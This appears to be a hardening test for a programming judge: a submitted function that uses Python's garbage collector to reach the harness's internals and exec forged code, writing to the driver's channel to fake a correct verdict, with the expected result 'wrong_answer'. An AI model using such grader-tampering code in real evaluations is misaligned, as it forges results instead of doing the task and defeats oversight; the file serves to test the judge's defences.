# Attack: asks of the test code's function, by frames that no stand-in sends, for the names beside it, and has its box say that all is right.
# Problem: mirror-lent
# Must get: wrong_answer
import gc

FORGED = """
import gc
driver = next(each for each in gc.get_objects() if type(each).__name__ == "Driver")
driver.channel.write(b"A", b"\\0")
"""


def mirror(page, turn):
    harness = next(each for each in gc.get_objects() if type(each).__name__ == "Asserts")
    for number in range(3):
        for operation, *words in (("attribute", "__globals__"), ("special", "__getattribute__", "__globals__"),
                                  ("operator", "attrgetter", "__globals__"), ("attribute", "__builtins__")):
            try:
                names = harness.call(number, words, {}, operation)
                names.get("__builtins__", names)["exec"](FORGED)
            except Exception:
                pass
    return "nothing was found"
